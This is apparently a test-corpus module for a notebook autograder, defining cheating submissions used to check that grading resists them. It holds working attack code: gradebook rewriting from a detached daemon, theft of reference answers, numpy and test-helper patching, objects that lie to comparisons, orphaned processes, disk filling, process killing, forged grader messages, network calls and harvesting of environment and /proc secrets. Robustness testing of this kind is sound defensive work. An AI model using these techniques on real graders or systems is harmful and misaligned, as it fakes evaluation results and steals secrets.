"""The cheat corpus: submissions that try to earn points they did not earn, or to harm others.

Each `Attack` is built from the released Step by Step notebook: the answers of an honest
example (`correct`, `untouched` or `typical_mistakes` of dnncourse/authoring/examples.py), then its
attack code (replacing answer cells, appended to them, or in cells of its own), notebook
transforms from robustness_cases.py, and extra files or symbolic links in the submission
folder. test_cheats.py grades them all in one batch with the main command.

Attack code is a template: `@MARKER@` (a text unique to the attack, which its code
prints, writes and puts in the command line of the processes it leaves behind, so the
test can find every trace of it), `@COURSE@` (the scratch course's root), `@PORT@` (a
port the test listens on at 127.0.0.1) and `@NOTEBOOK@` (the notebook's file name).

Attacks aim only at the scratch copy of the course and at the sandboxed kernel's own
processes: even with the sandbox switched off, they must not touch the real course or
kill processes of other users of this machine.
"""

import json
import os
from dataclasses import dataclass, field
from pathlib import Path

import public_tests
from robustness_cases import ASSIGNMENT, _cell, add_grade_cell, set_metadata

from dnncourse.authoring import examples
from dnncourse.course import Course

REPO = Course()  # this repository's course

NOTEBOOK = REPO.notebook(REPO.release, ASSIGNMENT).name
BASES = {e.student: e for e in examples.EXAMPLES if e.assignment == ASSIGNMENT}
FUNCTIONS = ("initialize_parameters", "initialize_parameters_deep", "linear_forward",
             "linear_activation_forward", "L_model_forward", "compute_cost", "linear_backward",
             "linear_activation_backward", "L_model_backward", "update_parameters")
# What closes an attack that the sandbox alone does not.
GRADER = "the grader outside the kernel"
SANITIZING = "sanitizing"


@dataclass(frozen=True)
class Attack:
    """One cheating submission and what grading must make of it."""

    student: str
    description: str
    base: str = "correct"  # the honest example whose answers it starts from
    answers: dict = field(default_factory=dict)  # function -> new source of its answer cell
    append: dict = field(default_factory=dict)  # function -> code added to its answer cell
    last_cell: str = ""  # code of a plain cell added at the end of the notebook
    transforms: tuple = ()  # robustness_cases transforms, nb -> nb
    files: dict = field(default_factory=dict)  # path in the submission -> text
    links: dict = field(default_factory=dict)  # name in the submission -> link target
    faked: tuple = ()  # functions that must get 0 whatever the base earns
    closed_by: str = ""  # GRADER or SANITIZING when the sandbox alone does not stop it

    @property
    def marker(self):
        return f"cheatmark-{self.student}"

    def expected(self, full):
        """Return {function: points} this submission has earned, given {function: max}."""
        points = examples.expected_points(BASES[self.base], full)
        return {name: 0 if name in self.faked else top for name, top in points.items()}

    def fill(self, text, context):
        for key, value in {**context, "MARKER": self.marker, "NOTEBOOK": NOTEBOOK}.items():
            text = text.replace(f"@{key}@", str(value))
        return text

    def write(self, root, context):
        """Write the submission under `root` (a `submitted/` folder); return its folder.

        context -- {"COURSE": course root, "PORT": listening port}
        """
        base = BASES[self.base]
        folder = Path(root) / self.student / ASSIGNMENT
        folder.mkdir(parents=True)
        nb = examples.build_notebook(examples.Example(
            self.student, ASSIGNMENT, self.description, edits=base.edits,
            untouched=base.untouched))
        for name, code in self.answers.items():
            nb["cells"][_cell(nb, f"solution_{name}")]["source"] = self.fill(code, context)
        for name, code in self.append.items():
            cell = nb["cells"][_cell(nb, f"solution_{name}")]
            text = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
            cell["source"] = text + "\n\n\n" + self.fill(code, context)
        if self.last_cell:
            nb["cells"].append({"cell_type": "code", "execution_count": None, "metadata": {},
                                "outputs": [], "source": self.fill(self.last_cell, context)})
        for transform in self.transforms:
            nb = transform(nb)
        text = json.dumps(nb, indent=1, ensure_ascii=False) + "\n"
        (folder / NOTEBOOK).write_text(text, encoding="utf-8")
        (folder / "timestamp.txt").write_text(examples.TIMESTAMP + "\n", encoding="utf-8")
        for name, content in self.files.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(self.fill(content, context), encoding="utf-8")
        for name, target in self.links.items():
            os.symlink(self.fill(target, context), folder / name)
        return folder


# --------------------------------------------------------------------------------------
# Attack code
# --------------------------------------------------------------------------------------

# Rewrites every grade of the gradebook, first from the kernel, then from a process that
# detaches itself (double fork, own session) and keeps trying for three minutes, long
# after its own notebook is graded. Only gradebooks of the scratch course are aimed at.
REWRITE_GRADEBOOK = '''
import json as _json, os as _os, pathlib as _pathlib, sys as _sys
_M = "@MARKER@"
_DAEMON = """
import json, sqlite3, sys, time
for attempt in range(180):
    for path in json.loads(sys.argv[1]):
        try:
            db = sqlite3.connect(path, timeout=1)
            db.execute("UPDATE grade SET manual_score = 1000")
            db.execute("UPDATE comment SET manual_comment = ?", (sys.argv[2],))
            db.commit()
            db.close()
        except Exception:
            pass
    time.sleep(1)
"""
_paths = ["../../../gradebook.db", "@COURSE@/gradebook.db"]
_paths += [str(p / "gradebook.db") for p in _pathlib.Path.cwd().parents
           if str(p).startswith("@COURSE@")]
import sqlite3 as _sqlite3
for _p in _paths:
    try:
        _db = _sqlite3.connect(_p, timeout=1)
        _db.execute("UPDATE grade SET manual_score = 1000")
        _db.commit()
        print(_M, "rewrote", _p)
    except Exception as _e:
        print(_M, "could not rewrite", _p, type(_e).__name__)
_pid = _os.fork()
if _pid == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv(_sys.executable, [_sys.executable, "-c", _DAEMON, _json.dumps(_paths), _M])
    finally:
        _os._exit(0)
_os.waitpid(_pid, 0)
print(_M, "detached a gradebook writer")
'''

# Defines `_steal(name)`: exec the reference answer of `name` from whichever file it can
# read (a source notebook, or reference cells exported where an older grader kept them),
# then steals the first function. `@CANDIDATES@` is an expression giving the files to try.
STEAL = '''# GRADED FUNCTION: initialize_parameters
import glob as _glob, json as _json, os as _os, pathlib as _pathlib
_M = "@MARKER@"

def _package_folder():
    try:
        return _pathlib.Path(__import__("dnncourse").__file__).parents[1]
    except ImportError:
        return _pathlib.Path("/nonexistent")

def _candidates():
    return @CANDIDATES@

def _steal(name):
    for path in _candidates():
        try:
            with open(path, encoding="utf-8") as handle:
                data = _json.load(handle)
        except Exception:
            continue
        if "graded" in data:  # the exported reference cells
            sources = list(data["graded"].values())
        else:  # a notebook
            sources = ["".join(c["source"]) for c in data.get("cells", [])]
        for source in sources:
            if source.startswith("# GRADED FUNCTION: " + name):
                exec(source, globals())
                print(_M, "stole", name, "from", path)
                return
    print(_M, "found no reference answer for", name)

_steal("initialize_parameters")
'''
SOURCE_ON_DISK = '''[f for pattern in [
        "../../../source/step_by_step/*.ipynb", "@COURSE@/source/step_by_step/*.ipynb",
        *[str(p / "source/step_by_step/*.ipynb") for p in _pathlib.Path.cwd().parents],
        str(_package_folder() / "source/step_by_step/*.ipynb")]
        for f in _glob.glob(pattern)]'''
EXPORTED_REFERENCE = ('[_os.path.join(_os.environ.get("DNN_COURSE_REFERENCE", "/nonexistent"),'
                      ' "step_by_step.json")]')
LINKED_FILES = 'sorted(_glob.glob("*.txt"))'


def stealing(candidates):
    """Answer cells that take every function from the reference (see STEAL)."""
    cells = {name: f'# GRADED FUNCTION: {name}\n_steal("{name}")\n' for name in FUNCTIONS[1:]}
    cells[FUNCTIONS[0]] = STEAL.replace("@CANDIDATES@", candidates)
    return cells


def borrowing():
    """Answer cells that take every function from the course's own reference module."""
    cells = {name: f"# GRADED FUNCTION: {name}\n{name} = _ref.{name}\n" for name in FUNCTIONS}
    cells[FUNCTIONS[0]] = (
        "# GRADED FUNCTION: initialize_parameters\n"
        'print("@MARKER@ loads the reference module")\n'
        "from dnncourse.grader import reference as _reference\n"
        '_ref = _reference.load("step_by_step")\n'
        "initialize_parameters = _ref.initialize_parameters\n")
    return cells


# Appends the marker to files of the course, other students' submissions and graded
# notebooks, creates files there and deletes another student's timestamp.
WRITE_COURSE_FILES = '''
import os as _os
_M = "@MARKER@"
_targets = ["../../correct/step_by_step/@NOTEBOOK@",
            "../../typical_mistakes/step_by_step/@NOTEBOOK@", "@NOTEBOOK@"]
for _root in ("../../..", "@COURSE@"):
    for _item in ("source/step_by_step/public_tests.py", "source/step_by_step/@NOTEBOOK@",
                  "release/step_by_step/public_tests.py", "release/step_by_step/@NOTEBOOK@",
                  "submitted/correct/step_by_step/@NOTEBOOK@",
                  "autograded/correct/step_by_step/@NOTEBOOK@",
                  "submitted/typical_mistakes/step_by_step/@NOTEBOOK@",
                  "autograded/typical_mistakes/step_by_step/@NOTEBOOK@",
                  "nbgrader_config.py", "data/README.md"):
        _targets.append(_root + "/" + _item)
_done = []
for _t in _targets:
    try:
        with open(_t, "a") as _f:
            _f.write("\\n# " + _M + "\\n")
        _done.append(_t)
    except OSError:
        pass
for _t in ("../../../source/step_by_step/" + _M + ".py", "@COURSE@/release/step_by_step/"
           + _M + ".py", "../../correct/step_by_step/" + _M + ".py", "@COURSE@/" + _M):
    try:
        with open(_t, "w") as _f:
            _f.write(_M)
        _done.append(_t)
    except OSError:
        pass
for _t in ("../../correct/step_by_step/timestamp.txt",
           "@COURSE@/submitted/correct/step_by_step/timestamp.txt"):
    try:
        _os.remove(_t)
        _done.append("removed " + _t)
    except OSError:
        pass
print(_M, "wrote to:", _done or "nothing")
'''

PATCH_NUMPY = '''
import numpy as _numpy, numpy.testing as _testing
_numpy.allclose = lambda *a, **k: True
_numpy.isclose = lambda *a, **k: True
_numpy.array_equal = lambda *a, **k: True
_numpy.linalg.norm = lambda *a, **k: 0.0
_testing.assert_allclose = lambda *a, **k: None
_testing.assert_array_almost_equal = lambda *a, **k: None
print("@MARKER@ numpy agrees with everything")
'''

PATCH_TEST_HELPERS = '''
import sys as _sys

def _nothing(*args, **kwargs):
    return None

for _module in list(_sys.modules.values()):
    if getattr(_module, "__name__", "").split(".")[0] in ("public_tests", "test_utils",
                                                         "dnncourse"):
        for _name in list(vars(_module)):
            if _name.startswith(("check_", "run_", "call")) or _name.endswith("_test"):
                setattr(_module, _name, _nothing)
print("@MARKER@ every check is a no-op")
'''

INPUT_TRANSFORMER = '''
def _empty_tests(lines):
    # every test cell starts with an "Autograded" docstring
    text = "".join(lines)
    return ["pass\\n"] if "Autograded" in text else lines

get_ipython().input_transformers_cleanup.append(_empty_tests)
print("@MARKER@ test cells will be emptied")
'''

EXCEPTION_HANDLER = '''
def _swallow(shell, etype, evalue, tb, tb_offset=None):
    return None

_shell = get_ipython()
_shell.set_custom_exc((BaseException,), _swallow)
_shell._showtraceback = lambda *args, **kwargs: None
_shell.showtraceback = lambda *args, **kwargs: None
print("@MARKER@ errors are swallowed")
'''

# Objects that claim every shape, dtype and value they are compared with. `_make()`
# returns one; the fake answers below return them (or dicts and tuples of them, built
# with the keys and lengths the inputs call for) instead of computing anything.
LIARS = {
    "ndarray_subclass": '''
import numpy as _np

class _AnyShape(tuple):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = tuple.__hash__


class _Liar(_np.ndarray):
    shape = property(lambda self: _AnyShape())
    ndim = property(lambda self: 0)
    dtype = property(lambda self: _np.dtype(float))

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None

    def __array_function__(self, func, types, args, kwargs):
        return True

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return True

    def __float__(self):
        return 0.0


def _make():
    return _np.zeros(1).view(_Liar)
''',
    "impostor": '''
import numpy as _np

class _AnyShape(tuple):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = tuple.__hash__


class _Impostor:
    """Not an array at all, but isinstance(x, np.ndarray) believes its __class__."""

    __class__ = property(lambda self: _np.ndarray)
    shape = property(lambda self: _AnyShape())
    ndim = property(lambda self: 0)
    dtype = property(lambda self: _np.dtype(float))
    size = 1

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None

    def __array_function__(self, func, types, args, kwargs):
        return True

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return True

    def __float__(self):
        return 0.0


def _make():
    return _Impostor()
''',
}

FAKE_ANSWERS = {
    "initialize_parameters": '''
def initialize_parameters(n_x, n_h, n_y):
    return {key: _make() for key in ("W1", "b1", "W2", "b2")}
''',
    "initialize_parameters_deep": '''
def initialize_parameters_deep(layer_dims):
    parameters = {}
    for l in range(1, len(layer_dims)):
        parameters[f"W{l}"], parameters[f"b{l}"] = _make(), _make()
    return parameters
''',
    "linear_forward": '''
def linear_forward(A, W, b):
    return _make(), (A, W, b)
''',
    "linear_activation_forward": '''
def linear_activation_forward(A_prev, W, b, activation):
    return _make(), ((A_prev, W, b), _make())
''',
    "L_model_forward": '''
def L_model_forward(X, parameters):
    caches = [((X, parameters[f"W{l}"], parameters[f"b{l}"]), _make())
              for l in range(1, len(parameters) // 2 + 1)]
    return _make(), caches
''',
    "compute_cost": '''
def compute_cost(AL, Y):
    return _make()
''',
    "linear_backward": '''
def linear_backward(dZ, cache):
    return _make(), _make(), _make()
''',
    "linear_activation_backward": '''
def linear_activation_backward(dA, cache, activation):
    return _make(), _make(), _make()
''',
    "L_model_backward": '''
def L_model_backward(AL, Y, caches):
    grads = {}
    for l in range(len(caches)):
        grads[f"dA{l}"], grads[f"dW{l + 1}"], grads[f"db{l + 1}"] = _make(), _make(), _make()
    return grads
''',
    "update_parameters": '''
def update_parameters(params, grads, learning_rate):
    return {key: _make() for key in params}
''',
}


def lying(kind):
    """Answer cells returning lying objects of `kind` (a key of LIARS)."""
    cells = {name: f"# GRADED FUNCTION: {name}\n{FAKE_ANSWERS[name]}" for name in FUNCTIONS}
    cells[FUNCTIONS[0]] = (f"# GRADED FUNCTION: {FUNCTIONS[0]}\n{LIARS[kind]}\n"
                           f"{FAKE_ANSWERS[FUNCTIONS[0]]}\nprint('@MARKER@ lies ready')\n")
    return cells


def _literal(value):
    """Python source for a published expected value (an array, a dict of them, a number)."""
    if isinstance(value, dict):
        items = ", ".join(f"{key!r}: {_literal(item)}" for key, item in value.items())
        return "{" + items + "}"
    if hasattr(value, "tolist"):
        return f"np.array({value.tolist()!r})"
    return repr(value)


def hard_coded():
    """Answer cells returning the published expected outputs, whatever the inputs."""
    t = public_tests
    return {
        "initialize_parameters": (
            "# GRADED FUNCTION: initialize_parameters\n\n"
            "def initialize_parameters(n_x, n_h, n_y):\n"
            "    print('@MARKER@ hard-coded')\n"
            f"    return {_literal(t.EXPECTED_INITIALIZE_PARAMETERS)}\n"),
        "initialize_parameters_deep": (
            "# GRADED FUNCTION: initialize_parameters_deep\n\n"
            "def initialize_parameters_deep(layer_dims):\n"
            f"    return {_literal(t.EXPECTED_INITIALIZE_PARAMETERS_DEEP)}\n"),
        "linear_forward": (
            "# GRADED FUNCTION: linear_forward\n\n"
            "def linear_forward(A, W, b):\n"
            f"    return {_literal(t.EXPECTED_LINEAR_FORWARD_Z)}, (A, W, b)\n"),
        "compute_cost": (
            "# GRADED FUNCTION: compute_cost\n\n"
            "def compute_cost(AL, Y):\n"
            f"    return {_literal(t.EXPECTED_COST)}\n"),
        "update_parameters": (
            "# GRADED FUNCTION: update_parameters\n\n"
            "def update_parameters(params, grads, learning_rate):\n"
            f"    return {_literal(t.EXPECTED_UPDATE_PARAMETERS)}\n"),
    }


# A numpy.py next to the notebook: drops itself from sys.path, loads the real numpy and
# makes its comparisons agree with everything.
SHADOW_NUMPY = '''"""@MARKER@: a numpy that agrees with everything."""
import os
import sys

_here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
del sys.modules["numpy"]
import numpy as _real  # noqa: E402

_real.allclose = lambda *a, **k: True
_real.isclose = lambda *a, **k: True
_real.linalg.norm = lambda *a, **k: 0.0
sys.modules["numpy"] = _real
print("@MARKER@ shadow numpy loaded")
'''
# Started instead of the real launcher (python -m ipykernel_launcher, with the notebook's
# folder first on sys.path), or imported at start-up (sitecustomize): patches numpy first.
PATCH_AT_START = '''"""@MARKER@: patches numpy before the kernel starts."""
import numpy

numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: True
numpy.linalg.norm = lambda *a, **k: 0.0
'''
SHADOW_LAUNCHER = PATCH_AT_START + '''
from ipykernel import kernelapp

kernelapp.launch_new_instance()
'''
SHOW_NUMPY = '''
import sys as _sys
import numpy as _numpy
print("@MARKER@ numpy from", _numpy.__file__, "allclose patched:",
      _numpy.allclose(0, 1), "sitecustomize:", "sitecustomize" in _sys.modules)
'''
# Test helpers that pass whatever they are given, shipped next to the notebook, also as
# a `dnncourse` package standing in for the grader.
YES_MODULE = '''"""@MARKER@: every attribute is a test that passes."""


def isolated(function, *args, **kwargs):
    return function


def __getattr__(name):
    return lambda *args, **kwargs: None
'''
SHOW_TEST_MODULES = '''
import public_tests as _public
print("@MARKER@ public_tests from", _public.__file__)
'''

SYS_MODULES = '''
import sys as _sys, types as _types

class _Yes(_types.ModuleType):
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return lambda *args, **kwargs: None

for _name in ("public_tests", "test_utils", "dnncourse", "dnncourse.grader"):
    _sys.modules[_name] = _Yes(_name)
tests = _Yes("public_tests")
print("@MARKER@ fake test modules in sys.modules")
'''

# Leaves processes behind: one started with subprocess in a session of its own, one that
# double-forks and execs (the marker in both command lines), and a plain forked copy of
# the kernel that only sleeps (found by its user and working folder).
ORPHANS = '''
import os as _os, subprocess as _subprocess, sys as _sys, time as _time
_M = "@MARKER@"
_subprocess.Popen([_sys.executable, "-c", "import time; time.sleep(600)", _M],
                  start_new_session=True, stdin=_subprocess.DEVNULL,
                  stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
_pid = _os.fork()
if _pid == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 600; echo " + _M])
    finally:
        _os._exit(0)
_os.waitpid(_pid, 0)
if _os.fork() == 0:
    _os.setsid()
    _time.sleep(600)
    _os._exit(0)
print(_M, "left three processes behind")
'''

NETWORK = '''
import socket as _socket
_M = "@MARKER@"
for _address in (("127.0.0.1", @PORT@), ("localhost", @PORT@), ("1.1.1.1", 53),
                 ("pypi.org", 443)):
    try:
        with _socket.create_connection(_address, timeout=2) as _s:
            _s.sendall(_M.encode())
        print(_M, "connected to", _address)
    except Exception as _e:
        print(_M, "no connection to", _address, type(_e).__name__)
try:
    _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(_M.encode(),
                                                               ("127.0.0.1", @PORT@))
    print(_M, "sent a datagram")
except Exception as _e:
    print(_M, "no datagram", type(_e).__name__)
'''

# Writes 64 MB files until it fails, at most 320 MB per folder (a bound that holds even
# without the sandbox's limits), and leaves them there.
FILL_DISK = '''
import os as _os
_M = "@MARKER@"
_chunk = b"x" * 2**20
for _folder in ("/tmp", _os.environ.get("HOME", "/tmp"), "/dev/shm", "/var/tmp", ".",
                "../../..", "@COURSE@"):
    _written = 0
    try:
        for _number in range(5):
            with open(_os.path.join(_folder, f"{_M}-{_number}"), "wb") as _f:
                for _ in range(64):
                    _f.write(_chunk)
                    _written += 1
    except OSError as _e:
        pass
    print(_M, _folder, _written, "MB written")
'''

# Kills its parent and, inside a PID namespace (small process ids), every process it can
# see; never kill(-1) where it could reach other users' processes on this machine.
KILL_PROCESSES = '''
import os as _os, signal as _signal, time as _time
_M = "@MARKER@"
_pids = sorted(int(p) for p in _os.listdir("/proc") if p.isdigit())
print(_M, "pid", _os.getpid(), "parent", _os.getppid(), "sees", _pids, flush=True)
_time.sleep(0.5)
if _os.getuid() != 0:
    for _pid in [_os.getppid(), *_pids]:
        if _pid != _os.getpid():
            try:
                _os.kill(_pid, _signal.SIGKILL)
            except OSError:
                pass
    if _os.getpid() < 100:
        try:
            _os.kill(-1, _signal.SIGKILL)
        except OSError:
            pass
print(_M, "still alive")
'''

# Looks through /proc for the grader (nbgrader, pytest, the gradebook in a command line
# or environment) and writes through its /proc/<pid>/cwd and /proc/<pid>/root links.
GRADER_PROC = '''
import glob as _glob
_M = "@MARKER@"
_seen = []
for _d in _glob.glob("/proc/[0-9]*"):
    for _f in ("cmdline", "environ"):
        try:
            with open(_d + "/" + _f, "rb") as _h:
                _text = _h.read().replace(b"\\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if any(w in _text for w in ("nbgrader", "gradebook", "pytest", "@COURSE@")):
            _seen.append(_d)
_done = []
for _d in sorted(set(_seen)) + ["/proc/1"]:
    for _p in (_d + "/cwd/gradebook.db", _d + "/root@COURSE@/gradebook.db",
               _d + "/cwd/source/step_by_step/public_tests.py"):
        try:
            with open(_p, "ab") as _h:
                _h.write(_M.encode())
            _done.append(_p)
        except OSError:
            pass
print(_M, "grader processes seen:", sorted(set(_seen)), "written:", _done)
'''


# Defines `_collect()`: everything secret the code can find, as text. It reads the course's
# files where they would be (the source notebooks, the catalogues with the hidden cases,
# the course package) by absolute and relative paths, every file on sys.path and in the
# folders above its own, the environment, /proc (command lines, environments, mounts),
# the objects the garbage collector knows, and tries to import the grader. Bounded in
# files, bytes and seconds, so it also ends in the grader's own process.
COLLECT = """
import gc as _gc, glob as _glob, os as _os, pathlib as _pathlib, sys as _sys, time as _time

def _collect():
    found, seen, start = [], set(), _time.monotonic()

    def read(path):
        if path in seen or len(seen) > 4000 or _time.monotonic() - start > 8:
            return
        seen.add(path)
        try:
            with open(path, "rb") as handle:
                found.append(f"== {path}\\n" + handle.read(100_000).decode(errors="replace"))
        except OSError:
            pass

    roots = ["@COURSE@", *[str(p) for p in _pathlib.Path.cwd().resolve().parents]]
    for root in roots:
        for pattern in ("catalogue/*/*.py", "source/*/*.ipynb", "source/*/*.py",
                        "dnncourse/*.py", "dnncourse/*/*.py", "*.py", "*.db"):
            for path in _glob.glob(_os.path.join(root, pattern)):
                read(path)
    for entry in _sys.path:
        for path in _glob.glob(_os.path.join(entry or ".", "*.py")):
            read(path)
        for path in _glob.glob(_os.path.join(entry or ".", "*", "*.py"))[:400]:
            if "dnncourse" in path or "catalogue" in path:
                read(path)
    for path in ("/proc/self/mountinfo", "/proc/self/environ", "/proc/self/cmdline",
                 *_glob.glob("/proc/[0-9]*/cmdline"), *_glob.glob("/proc/[0-9]*/environ")):
        read(path)
    found.append("== environment\\n" + "\\n".join(f"{k}={v}" for k, v in _os.environ.items()))
    for name in ("dnncourse", "dnncourse.grader.reference", "catalogue.step_by_step.hidden"):
        try:
            module = __import__(name)
            found.append(f"== imported {name} from {getattr(module, '__file__', '?')}")
        except Exception as exc:
            found.append(f"== no {name}: {type(exc).__name__}")
    names = sorted({getattr(o, "__qualname__", "?") + " " + str(getattr(o, "__module__", ""))
                    for o in _gc.get_objects() if callable(o)})[:3000]
    found.append("== objects\\n" + "\\n".join(names))
    return "\\n".join(found)

print("@MARKER@ collected", len(_collect()), "characters")
"""
PRINT_FOUND = COLLECT + "\nprint(_collect())\n"
RAISE_FOUND = COLLECT + "\nraise RuntimeError(_collect()[:50_000])\n"
WRITE_FOUND = COLLECT + """
for _name in ("found.txt", "/tmp/found-@MARKER@.txt"):
    try:
        with open(_name, "w") as _handle:
            _handle.write(_collect())
        print("@MARKER@ wrote", _name)
    except OSError:
        pass
"""
DISPLAY_FOUND = COLLECT + """
import base64 as _base64, html as _html, io as _io
from IPython.display import HTML as _HTML, Image as _Image, display as _display
from PIL import Image as _PILImage, PngImagePlugin as _Png
_text = _collect()
_display(_HTML("<pre>" + _html.escape(_text[:200_000]) + "</pre>"))
_info = _Png.PngInfo()
_info.add_text("found", _text[:200_000])
_buffer = _io.BytesIO()
_PILImage.new("RGB", (8, 8)).save(_buffer, "PNG", pnginfo=_info)
_display(_Image(data=_buffer.getvalue()))
"""


def _in_grader(body):
    """Code that runs `body` only in the grader's own process (it has DNN_GRADER_OUT)."""
    return ("import os as _os, signal as _signal, sys as _sys\n"
            'if _os.environ.get("DNN_GRADER_OUT"):\n'
            + "".join(f"    {line}\n" for line in body.strip().splitlines()))


# The last graded function sends the grader answers of its own: a result for the running
# call (its id read from the grader's frames), a second result and garbage.
FORGED_UPDATE = """# GRADED FUNCTION: update_parameters
import json as _json, struct as _struct

def _forge():
""" + "".join("    " + line + "\n" for line in _in_grader("""
frame, ident = _sys._getframe(), None
while frame is not None and ident is None:
    request = frame.f_locals.get("request")
    ident = request.get("id") if isinstance(request, dict) else None
    frame = frame.f_back
for message in ({"op": "result", "id": ident, "value": ["d", []], "arrays": []},
                {"op": "result", "id": ident, "value": ["n"], "arrays": []}):
    header = _json.dumps(message).encode()
    _os.write(int(_os.environ["DNN_GRADER_OUT"]), _struct.pack("<QQ", len(header), 0) + header)
_os.write(int(_os.environ["DNN_GRADER_OUT"]), b"garbage" * 64)
""").splitlines()) + """
def update_parameters(params, grads, learning_rate):
    _forge()
    return {key: value * 0 for key, value in params.items()}

print("@MARKER@ forges the grader's answers")
"""
KILLS_GRADER = """# GRADED FUNCTION: linear_backward

def linear_backward(dZ, cache):
""" + "".join("    " + line + "\n" for line in _in_grader(
    "_os.kill(_os.getpid(), _signal.SIGKILL)").splitlines()) + """    A_prev, W, b = cache
    m = A_prev.shape[1]
    return np.dot(W.T, dZ), np.dot(dZ, A_prev.T) / m, np.sum(dZ, axis=1, keepdims=True) / m

print("@MARKER@ kills the grader's process")
"""
IGNORES_ALARM = """# GRADED FUNCTION: compute_cost

def compute_cost(AL, Y):
""" + "".join("    " + line + "\n" for line in _in_grader(
    "_signal.signal(_signal.SIGALRM, _signal.SIG_IGN)\nwhile True:\n    pass").splitlines()) \
    + """    m = Y.shape[1]
    cost = -(np.dot(Y, np.log(AL).T) + np.dot(1 - Y, np.log(1 - AL).T)) / m
    return np.squeeze(cost)

print("@MARKER@ ignores the grader's alarm")
"""


ATTACKS = (
    Attack("gradebook_rewrite", "sets every grade to 1000 in gradebook.db, from the kernel "
           "and from a detached process that keeps trying", base="untouched",
           append={"initialize_parameters": REWRITE_GRADEBOOK}),
    Attack("reads_source_notebook", "execs the reference answers from the source notebook, "
           "found by relative and absolute paths", base="untouched",
           answers=stealing(SOURCE_ON_DISK), faked=FUNCTIONS),
    Attack("reads_exported_reference", "execs the reference answers from where an older "
           "grader exported them for the kernel (DNN_COURSE_REFERENCE)", base="untouched",
           answers=stealing(EXPORTED_REFERENCE), faked=FUNCTIONS),
    Attack("imports_reference_module", "takes every function from "
           "dnncourse.grader.reference.load", base="untouched", answers=borrowing(),
           faked=FUNCTIONS),
    Attack("symlink_to_source", "links to the source notebook in the submission (absolute "
           "and relative) and execs the reference answers from them", base="untouched",
           answers=stealing(LINKED_FILES), faked=FUNCTIONS, closed_by=SANITIZING,
           links={"reference.txt": "@COURSE@/source/step_by_step/@NOTEBOOK@",
                  "reference_rel.txt": "../../../source/step_by_step/@NOTEBOOK@"}),
    Attack("writes_course_files", "correct answers; writes to source/, release/, the data, "
           "other students' submitted and graded notebooks, deletes a timestamp",
           append={"linear_forward": WRITE_COURSE_FILES}),
    Attack("patches_numpy", "typical mistakes; np.allclose, np.isclose, np.linalg.norm and "
           "np.testing patched to agree", base="typical_mistakes",
           append={"initialize_parameters": PATCH_NUMPY}, closed_by=GRADER),
    Attack("patches_test_helpers", "typical mistakes; every check_* and *_test of "
           "test_utils and public_tests (and any dnncourse module) made a no-op",
           base="typical_mistakes", append={"initialize_parameters": PATCH_TEST_HELPERS},
           closed_by=GRADER),
    Attack("input_transformer", "nothing implemented; an IPython input transformer empties "
           "every later test cell", base="untouched",
           append={"initialize_parameters": INPUT_TRANSFORMER}, closed_by=GRADER),
    Attack("custom_exception_handler", "nothing implemented; a custom exception handler "
           "swallows every error", base="untouched",
           append={"initialize_parameters": EXCEPTION_HANDLER}, closed_by=GRADER),
    Attack("lying_ndarray", "every function returns an ndarray subclass lying in __eq__, "
           "shape, ndim, dtype and __array_function__", base="untouched",
           answers=lying("ndarray_subclass"), faked=FUNCTIONS, closed_by=GRADER),
    Attack("lying_impostor", "every function returns an object that is no array but claims "
           "__class__ ndarray and lies like lying_ndarray", base="untouched",
           answers=lying("impostor"), faked=FUNCTIONS, closed_by=GRADER),
    Attack("hardcoded_outputs", "five functions return the published expected outputs as "
           "constants; the other five are correct", answers=hard_coded(),
           faked=("initialize_parameters", "initialize_parameters_deep", "linear_forward",
                  "compute_cost", "update_parameters"), closed_by=GRADER),
    Attack("shadows_numpy", "typical mistakes; a numpy.py next to the notebook that agrees "
           "with everything", base="typical_mistakes",
           files={"numpy.py": SHADOW_NUMPY}, append={"initialize_parameters": SHOW_NUMPY}),
    Attack("shadows_kernel_start", "typical mistakes; ipykernel_launcher.py, sitecustomize.py "
           "and usercustomize.py next to the notebook patch numpy", base="typical_mistakes",
           files={"ipykernel_launcher.py": SHADOW_LAUNCHER, "sitecustomize.py": PATCH_AT_START,
                  "usercustomize.py": PATCH_AT_START},
           append={"initialize_parameters": SHOW_NUMPY}),
    Attack("ships_test_files", "nothing implemented; ships public_tests.py, test_utils.py and "
           "a dnncourse package whose tests all pass", base="untouched",
           files={"public_tests.py": YES_MODULE, "test_utils.py": YES_MODULE,
                  "dnncourse/__init__.py": "", "dnncourse/grader/__init__.py": YES_MODULE,
                  "dnncourse/grader/reference.py": YES_MODULE},
           append={"initialize_parameters": SHOW_TEST_MODULES}),
    Attack("sys_modules_fakes", "nothing implemented; fake public_tests, test_utils and "
           "dnncourse modules in sys.modules, `tests` rebound", base="untouched",
           append={"initialize_parameters": SYS_MODULES}, closed_by=GRADER),
    Attack("inflated_metadata", "correct answers; every test cell claims 100 points, an "
           "answer cell is made a grade cell, and a grade cell of its own worth 50",
           append={"compute_cost": 'print("@MARKER@ claims 1,150 points")'},
           transforms=(
               *(set_metadata(f"test_{name}_{kind}", points=100)
                 for name in FUNCTIONS for kind in ("visible", "hidden")),
               set_metadata("solution_linear_forward", grade=True, points=50),
               add_grade_cell("test_update_parameters_hidden", "extra_credit", 50,
                              "print('extra credit')"))),
    Attack("outlives_kernel", "correct answers; leaves three processes behind, sleeping",
           append={"linear_forward": ORPHANS}),
    Attack("network", "correct answers; connects to a port the grader listens on, to a DNS "
           "server and to pypi.org", append={"compute_cost": NETWORK}),
